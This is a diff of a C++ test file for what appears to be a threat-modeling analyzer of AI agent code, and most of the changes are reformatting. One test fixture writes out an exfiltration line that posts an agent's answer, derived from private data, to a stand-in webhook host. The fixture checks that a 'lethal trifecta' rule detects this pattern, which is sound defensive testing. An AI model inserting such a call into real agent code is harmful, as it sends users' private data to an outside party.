@@ -51,7 +51,8 @@ struct Made {
         inside.place.file = 0;
         graph.nodes.push_back(inside);
         outside("https://hooks.example.net/in", "requests.post");
-        const auto edge = [this, &code](std::uint32_t from, std::uint32_t to, lineage::EdgeKind kind, const char* call) {
+        const auto edge = [this, &code](
+                              std::uint32_t from, std::uint32_t to, lineage::EdgeKind kind, const char* call) {
             lineage::Edge out;
             out.from = from;
             out.to = to;
@@ -120,8 +121,8 @@ CUPEL_TEST(foreignTextPrivateDataAndAWayOutMeet)
     const auto fires = [](Made made) {
         assess(made.derived.model, made.derived.evidence, builtInRules(), builtInEvidence(), {1'000});
         const auto& threats = made.derived.model.threats;
-        return std::any_of(threats.begin(), threats.end(),
-            [](const Threat& threat) { return threat.rule == "agt-lethal-trifecta"; });
+        return std::any_of(
+            threats.begin(), threats.end(), [](const Threat& threat) { return threat.rule == "agt-lethal-trifecta"; });
     };
     const std::string code = agentCode + "requests.post('https://hooks.example.net/in', json=answer)\n";
     const Made made(code, {finding("CUP-PII-IBAN", Family::Pii)});
@@ -137,8 +138,9 @@ CUPEL_TEST(foreignTextPrivateDataAndAWayOutMeet)
     CHECK(fires(Made(code, {finding("CUP-PII-IBAN", Family::Pii)})));
     CHECK(!fires(Made(code))); // nobody is in the table
     // A script that does the same is no agent.
-    CHECK(attribute(*Made("requests.get(1)", {finding("CUP-PII-IBAN", Family::Pii)}).named("crew.py"), "reads_sensitive")
-              .empty());
+    CHECK(
+        attribute(*Made("requests.get(1)", {finding("CUP-PII-IBAN", Family::Pii)}).named("crew.py"), "reads_sensitive")
+            .empty());
 }
 
 CUPEL_TEST(whatIsImportedSaysWhatCodeIs)
@@ -201,7 +203,8 @@ CUPEL_TEST(oneFileServesOneApi)
     }
     const Derived derived = derive(made.graph, made.workspace, "w", {});
     const auto& all = derived.model.elements;
-    CHECK_EQ(std::count_if(all.begin(), all.end(), [](const Element& one) { return one.kind == "inference-endpoint"; }), 1);
+    CHECK_EQ(
+        std::count_if(all.begin(), all.end(), [](const Element& one) { return one.kind == "inference-endpoint"; }), 1);
     const auto api =
         std::find_if(all.begin(), all.end(), [](const Element& one) { return one.kind == "inference-endpoint"; });
     CHECK_EQ(attribute(*api, "ways"), "FastAPI, /ask, run");
@@ -234,8 +237,8 @@ CUPEL_TEST(anIndexWithoutEncryptionIsDrawnSo)
     made.workspace.analyses["w/crew.py"] = code;
     made.workspace.analyses["w/requirements.txt"] = list;
     Derived derived = derive(made.graph, made.workspace, "w", {});
-    const auto flow = std::find_if(derived.model.flows.begin(), derived.model.flows.end(),
-        [](const Flow& one) { return one.name == "installs"; });
+    const auto flow = std::find_if(
+        derived.model.flows.begin(), derived.model.flows.end(), [](const Flow& one) { return one.name == "installs"; });
     REQUIRE(flow != derived.model.flows.end());
     CHECK_EQ(attribute(*flow, "protocol"), "http");
     CHECK_EQ(attribute(*flow, "encrypted"), "false");
